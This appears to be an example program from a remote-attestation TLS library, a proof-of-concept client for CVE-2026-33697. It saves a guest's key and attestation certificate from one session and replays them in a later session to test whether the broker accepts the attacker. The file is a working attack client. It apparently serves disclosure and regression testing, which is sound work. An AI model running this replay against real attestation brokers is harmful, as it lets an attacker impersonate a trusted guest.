// The attacker who holds a guest's leaked TLS key, and the certificate with evidence that the
// guest showed once (CVE-2026-33697, "Intra-handshake.fail").
//
//   replay_client --connect HOST:PORT --report-source sim:DIR --key KEY.pem --certificate CERT.der
//
// First run, no such files yet: an honest session A of a guest whose key leaks afterwards. Makes
// the key, gets evidence over it and over session A, shows it, and saves both files.
// Any later run: session B of the attacker, who shows the same certificate and proves possession
// of the same key. TLS itself has nothing against it.
//
// Exit codes: 0 the broker accepted, 77 it refused, 69 no answer, 78 bad arguments.

#include <array>
#include <cstdio>
#include <fstream>

#include <sys/stat.h>

#include <ratls/certgen/attester.h>
#include <ratls/certgen/leaf.h>
#include <ratls/certgen/sim/guest.h>
#include <ratls/detail/frames.h>
#include <ratls/detail/tls_engine.h>
#include <ratls/examples/common/arguments.h>
#include <ratls/examples/common/exit_code.h>
#include <ratls/examples/common/files.h>
#include <ratls/examples/common/steps.h>
#include <ratls/tcp.h>

namespace {

using namespace ratls;
using namespace ratls::examples;
using detail::TlsEngine;

/// A TLS client that follows no rule of the protocol but TLS itself.
class Peer {
 public:
  static Result<Peer> connect(const Address& address) {
    detail::TlsOptions options;
    options.side = detail::Side::client;
    options.pause_for_certificate = true;
    options.judge = [](const detail::PeerLeaf&) { return Result<void>{}; };
    RATLS_TRY(auto engine, TlsEngine::create(std::move(options)));
    RATLS_TRY(auto stream, TcpStream::connect(address, after(std::chrono::seconds(10))));
    return Peer(std::move(engine), std::move(stream));
  }

  TlsEngine& engine() { return *engine_; }

  /// Runs until `wanted`.
  Result<void> handshake(TlsEngine::Progress wanted) {
    while (true) {
      RATLS_TRY(const auto progress, engine_->handshake());
      RATLS_CHECK(flush());
      if (progress == wanted) return {};
      RATLS_CHECK(fill());
    }
  }

  /// What the broker says to the certificate.
  Result<detail::VerdictFrame> verdict() {
    detail::FrameReader reader(detail::FrameType::verdict);
    std::array<std::uint8_t, 2048> buffer{};
    while (true) {
      RATLS_TRY(const auto got, engine_->read(buffer));
      if (got.end) return Error(Reason::verdict_missing);
      if (got.size == 0) {
        RATLS_CHECK(fill());
        continue;
      }
      RATLS_TRY(const std::size_t used, reader.feed(ByteView(buffer).first(got.size)));
      static_cast<void>(used);  // what follows an acceptance is of no interest here
      if (const auto frame = reader.take()) return detail::VerdictFrame::decode(frame->body);
    }
  }

  Result<void> close() {
    RATLS_CHECK(engine_->close_notify());
    RATLS_CHECK(flush());
    stream_->end_writing();
    return {};
  }

 private:
  Peer(std::unique_ptr<TlsEngine> engine, std::unique_ptr<Transport> stream)
      : engine_(std::move(engine)), stream_(std::move(stream)) {}

  Result<void> flush() {
    const std::size_t size = engine_->output().size();
    RATLS_CHECK(stream_->write(engine_->output(), after(std::chrono::seconds(5))));
    engine_->consumed(size);
    return {};
  }

  Result<void> fill() {
    std::array<std::uint8_t, 4096> chunk{};
    RATLS_TRY(const std::size_t got, stream_->read(chunk, after(std::chrono::seconds(10))));
    if (got == 0) engine_->feed_end();
    if (engine_->feed(ByteView(chunk).first(got)) != got) return Error(Reason::internal);
    return {};
  }

  std::unique_ptr<TlsEngine> engine_;
  std::unique_ptr<Transport> stream_;
};

/// The key and the certificate: made in session A, stolen for session B.
struct Loot {
  SigningKey key;
  Bytes certificate;
};

Result<void> save(const std::string& path, ByteView bytes) {
  std::ofstream out(path, std::ios::binary);
  for (const std::uint8_t byte : bytes) out.put(static_cast<char>(byte));
  out.close();
  if (out) return {};
  return Error(Reason::io_error, path);
}

Result<Loot> make_loot(const Arguments& arguments, TlsEngine& session) {
  RATLS_TRY(const std::string source, arguments.need("report-source"));
  RATLS_TRY(const auto firmware, sim::open_guest(source, {}));
  RATLS_TRY(const SecretBytes pem, SigningKey::generate_pem());
  RATLS_TRY(SigningKey key, SigningKey::import_pem(pem));
  Attester attester(*firmware);
  RATLS_CHECK(attester.start());
  const SpkiHash hash = hash_spki(key.spki());
  RATLS_TRY(const Binder binder, session.client_binder(hash));
  auto pending = attester.begin({Role::client, Level::exporter, binder, hash});
  RATLS_TRY(const Bytes evidence, pending.take());
  RATLS_TRY(Bytes certificate, make_leaf(key, ByteView(evidence)));
  RATLS_CHECK(pem.expose([&](ByteView text) { return save(arguments.value_or("key", ""), text); }));
  RATLS_CHECK(save(arguments.value_or("certificate", ""), certificate));
  return Loot{std::move(key), std::move(certificate)};
}

Result<Loot> steal_loot(const Arguments& arguments) {
  RATLS_TRY(Bytes text, read_file(arguments.value_or("key", "")));
  RATLS_TRY(const SecretBytes pem, SecretBytes::take(std::move(text)));
  RATLS_TRY(SigningKey key, SigningKey::import_pem(pem));
  RATLS_TRY(Bytes certificate, read_file(arguments.value_or("certificate", "")));
  return Loot{std::move(key), std::move(certificate)};
}

Result<detail::VerdictFrame> run(const Arguments& arguments, bool stolen, Steps& log) {
  RATLS_TRY(const std::string where, arguments.need("connect"));
  RATLS_TRY(const Address address, Address::parse(where));
  RATLS_TRY(Peer peer, Peer::connect(address));
  RATLS_CHECK(peer.handshake(TlsEngine::Progress::paused));
  log.step(stolen ? "session B: TLS to the broker, with the stolen key and certificate"
                  : "session A: TLS to the broker, with a fresh key");
  RATLS_TRY(const Loot loot, stolen ? steal_loot(arguments) : make_loot(arguments, peer.engine()));
  RATLS_CHECK(peer.engine().set_own_certificate(loot.key, loot.certificate));
  RATLS_CHECK(peer.handshake(TlsEngine::Progress::over));
  log.step("--> Certificate, CertificateVerify, Finished: TLS is content");
  RATLS_TRY(auto verdict, peer.verdict());
  static_cast<void>(peer.close());  // the broker may have closed already
  return verdict;
}

int report(const detail::VerdictFrame& verdict, Steps& log) {
  if (verdict.code == detail::VerdictFrame::Code::accepted) {
    log.step("<-- VERDICT: accepted");
    return kOk;
  }
  log.step("<-- VERDICT: " + verdict.as_error()->message());
  return kRefused;
}

}  // namespace

int main(int argc, char** argv) {
  const auto arguments =
      Arguments::parse(argc, argv, {{"connect", "report-source", "key", "certificate"}, {}});
  if (!arguments || !arguments->has("key") || !arguments->has("certificate")) {
    complain("replay_client", "see the head of replay_client.cpp for the arguments");
    return kBadConfig;
  }
  struct stat about {};
  const bool stolen = ::stat(arguments->value_or("certificate", "").c_str(), &about) == 0;
  Steps log(stolen ? "attacker" : "guest");
  const auto verdict = run(*arguments, stolen, log);
  if (verdict) return report(*verdict, log);
  log.step("no verdict: " + verdict.error().message());
  return exit_code(verdict.error());
}
